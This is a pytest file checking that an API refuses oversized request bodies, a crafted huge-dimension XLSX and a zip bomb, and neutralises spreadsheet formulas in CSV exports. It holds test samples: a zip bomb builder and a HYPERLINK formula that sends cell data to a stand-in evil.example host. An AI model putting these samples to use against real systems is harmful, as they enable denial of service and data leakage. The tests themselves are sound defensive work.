"""Hostile uploads and exports (issue 11): a request body over the limit is refused (413) before
anything is parsed or spooled, with or without a Content-Length; an XLSX declaring a huge sheet, or a
zip bomb, is refused (422 naming why) in under a second, and the API goes on answering; a CSV export
never carries a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from collections.abc import AsyncIterator

import httpx
import pytest

from api.main import create_app
from api.sheet_reader import MAX_COLUMNS, MAX_ROWS, FileError, check_xlsx
from api.timeline import inert
from jps.domain.roles import Role
from tests import factories
from tests.api.conftest import Stack, act, submit
from tests.api.test_import_and_bulk import rows_of, to_xlsx
from tests.sim_fixtures import ThreadedServer

LIMIT = 256 * 1024


@pytest.fixture
async def small_api(stack: Stack) -> AsyncIterator[str]:
    """The API with a 256 KiB body limit, on a port of its own."""
    server = ThreadedServer(
        create_app(stack.settings.model_copy(update={"max_request_bytes": LIMIT})), "small-api"
    ).start()
    try:
        yield server.url
    finally:
        server.stop()


async def test_a_body_over_the_limit_is_refused_before_it_is_read(stack: Stack, small_api: str) -> None:
    headers = stack.auth(Role.REGISTRAR)
    async with httpx.AsyncClient(base_url=small_api, timeout=30) as client:
        big = b"group_ref,program\n" + b"x" * (2 * LIMIT)
        resp = await client.post(
            "/groups/import", files={"file": ("big.csv", big, "text/csv")}, headers=headers
        )
        assert resp.status_code == 413 and f"larger than {LIMIT} bytes" in resp.json()["detail"]

        async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted as it streams
            for _ in range(12):
                yield b"y" * (32 * 1024)

        resp = await client.post(
            "/groups", content=chunks(), headers={**headers, "Content-Type": "application/json"}
        )
        assert resp.status_code == 413
        assert (await client.get("/health")).status_code == 200
        small = factories.proposal()
        ok = await client.post("/groups", json=small.model_dump(mode="json"), headers=headers)
        assert ok.status_code == 201  # under the limit, as before


def _rewrite_sheet(xlsx: bytes, change: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, change.get(item.filename, src.read(item.filename)))
    return out.getvalue()


def _declared_huge() -> bytes:
    """A small valid workbook whose sheet says A1:XFD1048576 and has a cell at its far corner."""
    book = to_xlsx(rows_of("G1", factories.proposal(size=10)))
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    sheet = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', sheet)
    sheet = sheet.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
    )
    return _rewrite_sheet(book, {"xl/worksheets/sheet1.xml": sheet})


def _zip_bomb() -> bytes:
    """An XLSX-looking zip whose sheet expands 20 MiB out of some kilobytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"<" + b"0" * (20 * 1024 * 1024))
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "build", "why"),
    [("declared", _declared_huge, "declares 1,048,576 rows"), ("bomb", _zip_bomb, "a zip bomb")],
)
async def test_hostile_xlsx_is_refused_quickly(
    stack: Stack, http: httpx.AsyncClient, name: str, build: object, why: str
) -> None:
    assert callable(build)
    data: bytes = build()
    assert len(data) < 64 * 1024
    started = time.monotonic()
    resp = await http.post(
        "/groups/import?dry_run=true",
        files={"file": (f"{name}.xlsx", data, "application/octet-stream")},
        headers=stack.auth(Role.REGISTRAR),
    )
    assert time.monotonic() - started < 1.0
    assert resp.status_code == 422 and why in resp.json()["detail"], resp.text
    assert (await http.get("/health")).status_code == 200


def test_the_caps_leave_room_for_the_whole_cohort() -> None:
    cohort = to_xlsx(rows_of("G1", factories.proposal(size=10)))
    with zipfile.ZipFile(io.BytesIO(cohort)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    sheet = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:R61521"/>', sheet)
    check_xlsx(_rewrite_sheet(cohort, {"xl/worksheets/sheet1.xml": sheet}))  # 61,520 lines + header
    assert MAX_ROWS > 61_521 and MAX_COLUMNS >= 18
    # without a declared dimension, the reading itself stops at the cap
    undeclared = re.sub(rb'<dimension ref="[^"]*"\s*/>', b"", sheet).replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="n"><v>1</v></c></row></sheetData>'
    )
    from api.importer import read_rows

    started = time.monotonic()
    with pytest.raises(FileError, match="more than 100,000 lines"):
        read_rows("x.xlsx", _rewrite_sheet(cohort, {"xl/worksheets/sheet1.xml": undeclared}))
    assert time.monotonic() - started < 5.0


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_formula_start_is_made_inert(cell: str) -> None:
    assert inert(cell) == "'" + cell
    assert inert("biasa") == "biasa" and inert("") == ""


async def test_a_formula_cell_is_exported_inert(stack: Stack, http: httpx.AsyncClient) -> None:
    gid = (await submit(http, stack, factories.proposal()))["group_id"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    await act(http, stack, gid, "cancel", Role.SUPERVISOR, {"reason": formula})
    resp = await http.get(f"/groups/{gid}/history?format=csv", headers=stack.auth(Role.AUDITOR))
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    cancelled = [r for r in rows if r["event"] == "cancelled"]
    assert cancelled and cancelled[0]["reason"] == "'" + formula
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
